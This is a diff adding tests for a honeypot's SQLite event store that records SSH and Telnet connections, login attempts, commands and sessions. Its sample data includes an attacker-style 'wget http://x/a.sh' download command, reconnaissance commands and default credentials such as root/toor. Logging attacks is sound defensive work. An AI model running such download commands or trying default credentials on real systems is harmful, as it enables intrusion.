@@ -0,0 +1,59 @@
+import queue
+import sqlite3
+
+from utils.event_store import EventStore
+
+
+def make_store(tmp_path) -> EventStore:
+    store = EventStore()
+    store.enabled = True
+    store.path = tmp_path / 'events.db'
+    store.flush_interval = 0.05
+    return store
+
+
+def test_events_are_written_per_table(tmp_path):
+    store = make_store(tmp_path)
+    store.start()
+    store.record_connection('192.0.2.1', 50000, 'SSH', True)
+    store.record_connection('192.0.2.2', 50001, 'SSH', False, 'rate_limited')
+    store.record_auth('192.0.2.1', 'SSH', 'root', 'toor', True)
+    for command in ('uname -a', 'id', 'wget http://x/a.sh'):
+        store.record_command('192.0.2.1', 'SSH', 'root', 'abc', command)
+    store.record_session('192.0.2.1', 'SSH', 'root', 'abc', 12.5, 3)
+    store.stop()
+    
+    db = sqlite3.connect(str(store.path))
+    assert db.execute("PRAGMA journal_mode").fetchone()[0] == 'wal'
+    assert db.execute("SELECT client_ip, accepted, reason FROM connections ORDER BY id").fetchall() == [
+        ('192.0.2.1', 1, ''), ('192.0.2.2', 0, 'rate_limited')]
+    assert db.execute("SELECT username, password, success FROM auth_attempts").fetchall() == [('root', 'toor', 1)]
+    assert [row[0] for row in db.execute("SELECT command FROM commands ORDER BY id")] == [
+        'uname -a', 'id', 'wget http://x/a.sh']
+    assert db.execute("SELECT duration, command_count FROM sessions").fetchall() == [(12.5, 3)]
+    assert store.stats['written'] == 7
+    assert store.stats['batches'] >= 1
+    
+    indexes = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'index'")}
+    assert {'idx_auth_username', 'idx_commands_ip', 'idx_sessions_ts'} <= indexes
+
+
+def test_records_are_ignored_when_not_running(tmp_path):
+    store = make_store(tmp_path)
+    store.record_command('192.0.2.1', 'SSH', 'root', 'abc', 'id')
+    assert store.queue.empty()
+    
+    disabled = EventStore()
+    disabled.enabled = False
+    disabled.start()
+    assert not disabled._running
+
+
+def test_full_queue_drops_instead_of_blocking(tmp_path):
+    store = make_store(tmp_path)
+    store.queue = queue.Queue(maxsize=2)
+    store._running = True
+    for _ in range(5):
+        store.record_auth('192.0.2.1', 'Telnet', 'admin', 'admin', False)
+    assert store.queue.qsize() == 2
+    assert store.stats['dropped'] == 3